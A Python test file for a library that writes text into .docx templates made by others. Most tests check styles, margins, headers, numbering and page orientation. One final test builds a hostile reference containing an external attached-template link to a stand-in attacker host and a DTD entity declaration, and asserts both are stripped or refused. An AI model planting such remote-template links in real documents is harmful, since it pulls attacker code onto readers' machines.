"""Writing into documents that others made."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import docx
import pytest
from docx.shared import Mm
from lxml import etree

from tests.page.pdf import convert, missing_tool
from tests.page.variants import load_variants
from wenming_docs.blocks import Heading, Landscape, Manuscript, Paragraph, dump_text, inlines
from wenming_docs.errors import InvalidInput
from wenming_docs.page.word import fingerprint, read_text, write_docx

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
VARIANTS = load_variants()


def saved(document: docx.document.Document) -> bytes:
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def default_template() -> bytes:
    return saved(docx.Document())


def office_document() -> bytes:
    """Own margins, a header and a footer, numbered headings, and text that must go."""
    document = docx.Document()
    section = document.sections[0]
    section.left_margin = section.right_margin = Mm(20)
    section.header.paragraphs[0].text = "云山市青石街道办事处"
    section.footer.paragraphs[0].text = "内部资料"
    document.add_paragraph("旧的正文")
    heading = document.styles["Heading 1"].element.get_or_add_pPr()
    numbering = etree.SubElement(heading, W + "numPr")
    etree.SubElement(numbering, W + "numId").set(W + "val", "1")
    heading.remove(numbering)
    heading.insert(2, numbering)
    return saved(document)


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def check(reference: bytes) -> dict[str, bytes]:
    """Writes every variant into the reference; the parts of the last one."""
    for variant in VARIANTS.values():
        result = write_docx(variant.manuscript, reference=reference)
        assert read_text(result) == dump_text(variant.manuscript)
        stored, computed = fingerprint(result)
        assert stored == computed
        assert result == write_docx(variant.manuscript, reference=reference)
        assert_whole(parts_of(result))
    return parts_of(result)


def assert_whole(parts: dict[str, bytes]) -> None:
    """Every style, relationship and content type that is named is there."""
    described = list(etree.fromstring(parts["word/styles.xml"]).iter(W + "style"))
    named = [
        (style.get(W + "type"), name.get(W + "val")) for style in described for name in style.iter(W + "name")
    ]
    assert len(named) == len(set(named))
    styles = {style.get(W + "styleId") for style in described}
    assert len(styles) == len(described)
    document = etree.fromstring(parts["word/document.xml"])
    used = {
        element.get(W + "val")
        for name in ("pStyle", "rStyle", "tblStyle")
        for element in document.iter(W + name)
    }
    assert used <= styles
    relationships = etree.fromstring(parts["word/_rels/document.xml.rels"])
    assert {element.get("Target", "").lstrip("/") for element in relationships} <= parts.keys()
    known = {element.get("Id") for element in relationships}
    references = {
        value
        for element in document.iter()
        for key, value in element.attrib.items()
        if "officeDocument" in key
    }
    assert references <= known
    declared = etree.fromstring(parts["[Content_Types].xml"])
    overrides = {element.get("PartName", "").lstrip("/") for element in declared if element.get("PartName")}
    assert overrides <= parts.keys()


def test_the_default_document_of_another_library_can_be_written_into() -> None:
    parts = check(default_template())
    assert "docProps/thumbnail.jpeg" not in parts


def test_margins_header_and_footer_of_an_office_stay_and_its_text_goes() -> None:
    parts = check(office_document())
    headers = [
        data.decode() for name, data in parts.items() if name.startswith(("word/header", "word/footer"))
    ]
    assert sorted("内部资料" in text for text in headers) == [False, True]
    assert "旧的正文" not in parts["word/document.xml"].decode()
    section = etree.fromstring(parts["word/document.xml"]).findall(f".//{W}sectPr")[-1]
    margins = section.find(W + "pgMar")
    assert margins is not None
    assert (margins.get(W + "left"), margins.get(W + "right")) == ("1134", "1134")


def test_styles_of_the_office_are_not_touched() -> None:
    reference = office_document()
    before = {
        style.get(W + "styleId"): etree.tostring(style)
        for style in etree.fromstring(parts_of(reference)["word/styles.xml"]).iter(W + "style")
    }
    after = {
        style.get(W + "styleId"): etree.tostring(style)
        for style in etree.fromstring(check(reference)["word/styles.xml"]).iter(W + "style")
    }
    assert {id: after[id] for id in before} == before


def test_a_reference_without_styles_gets_ours() -> None:
    parts = parts_of(office_document())
    del parts["word/styles.xml"]
    written = check(packed(parts))
    ids = {
        style.get(W + "styleId") for style in etree.fromstring(written["word/styles.xml"]).iter(W + "style")
    }
    assert {"Normal", "Body", "Title", "Heading1", "TableGrid"} <= ids


def test_a_heading_that_numbers_itself_does_not_print_two_numbers() -> None:
    manuscript = Manuscript((Heading(1, inlines("总体要求"), number="一、"),))
    document = etree.fromstring(
        parts_of(write_docx(manuscript, reference=office_document()))["word/document.xml"]
    )
    (paragraph,) = document.iter(W + "p")
    assert [element.get(W + "val") for element in paragraph.iter(W + "numId")] == ["0"]
    assert "".join(paragraph.itertext()) == "一、总体要求"


def test_landscape_pages_turn_the_page_of_the_office() -> None:
    manuscript = Manuscript((Paragraph(inlines("甲")), Landscape((Paragraph(inlines("乙")),))))
    document = etree.fromstring(
        parts_of(write_docx(manuscript, reference=office_document()))["word/document.xml"]
    )
    sizes = [(size.get(W + "w"), size.get(W + "h")) for size in document.iter(W + "pgSz")]
    assert sizes == [("12240", "15840"), ("15840", "12240")]


@pytest.mark.page
def test_a_document_that_libreoffice_wrote_can_be_written_into(tmp_path: Path) -> None:
    if reason := missing_tool():
        pytest.skip(reason)
    source = write_docx(VARIANTS["headings"].manuscript)
    odt = convert({"ours": source}, tmp_path, "docx", "odt")["ours"]
    reference = convert({"theirs": odt.read_bytes()}, tmp_path, "odt", "docx")["theirs"].read_bytes()
    check(reference)


@pytest.mark.parametrize("data", [b"", "旧版 Word".encode(), b"PK\x05\x06" + bytes(18)])
def test_what_is_no_docx_is_refused_in_words(data: bytes) -> None:
    with pytest.raises(InvalidInput) as refused:
        write_docx(VARIANTS["headings"].manuscript, reference=data)
    assert "参考文档" in refused.value.findings[0].message
    assert refused.value.findings[0].hint


def test_a_reference_that_reaches_outside_is_cut_off_or_refused() -> None:
    parts = parts_of(office_document())
    types = "http://schemas.openxmlformats.org"
    parts["word/_rels/settings.xml.rels"] = (
        f'<Relationships xmlns="{types}/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{types}/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    result = parts_of(write_docx(VARIANTS["headings"].manuscript, reference=packed(parts)))
    assert not any(b"evil.example" in data for data in result.values())
    bomb = b'<!DOCTYPE x [<!ENTITY a "b">]>'
    parts["word/styles.xml"] = bomb + parts["word/styles.xml"].split(b"?>", 1)[1]
    with pytest.raises(InvalidInput, match="DTD"):
        write_docx(VARIANTS["headings"].manuscript, reference=packed(parts))


def packed(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()
